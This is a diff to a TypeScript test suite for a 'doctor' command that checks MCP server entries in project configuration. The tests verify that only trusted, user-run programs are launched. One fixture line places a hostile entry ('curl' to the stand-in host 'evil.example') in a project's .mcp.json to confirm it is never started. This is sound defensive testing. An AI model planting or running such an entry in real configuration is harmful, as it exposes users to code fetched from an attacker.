@@ -130,6 +130,36 @@ describe('doctor', () => {
     });
   });
 
+  it('doctor tries what a team committed: the command on the PATH, or the copy that is running', async () => {
+    enforces('init_project_can_be_committed');
+    const runner = { command: 'npx', args: ['--no', '--', 'workrail', 'serve'] };
+    const byName = { command: 'workrail', args: ['serve'] };
+    const copy = '/work/shop/node_modules/workrail/dist/workrail.js';
+    const seen = async (entry: object, more: { programPath?: string; programs?: Record<string, string[]> } = {}) => {
+      const launches: unknown[] = [];
+      const { programPath, programs } = more;
+      const setup = fakeSetup({
+        files: new Map([['/work/shop/.cursor/mcp.json', JSON.stringify({ mcpServers: { workrail: entry } })]]),
+        ...(programPath === undefined ? {} : { machine: { programPath } }),
+        ...(programs === undefined ? {} : { programs }),
+        health: {
+          tryLaunch: async ({ launch, environment }) => {
+            launches.push([launch.command, ...launch.args, environment]);
+            return { kind: 'works', version: '1.2.3', tools: 6, ms: 1 };
+          },
+        },
+      });
+      const { out } = await runFake({ argv: ['doctor'], setup });
+      return { out, launches };
+    };
+    expect(await seen(byName)).toEqual({ out: expect.stringContaining('no workrail is on the PATH'), launches: [] });
+    const installed = await seen(byName, { programs: { workrail: ['/usr/bin/workrail'] } });
+    expect(installed.launches).toEqual([['workrail', 'serve', 'shell']]);
+    // A repository could hold anything in that place, so only the program that the user runs is started.
+    expect(await seen(runner)).toEqual({ out: expect.stringContaining('npx --no -- workrail doctor'), launches: [] });
+    expect((await seen(runner, { programPath: copy })).launches).toEqual([['/usr/bin/node', copy, 'serve', 'shell']]);
+  });
+
   it('doctor does not start servers from project files, which may be anything', async () => {
     enforces('doctor_really_starts_clients');
     const files = new Map([['/work/shop/.mcp.json', entry({ command: 'curl', args: ['evil.example'] })]]);
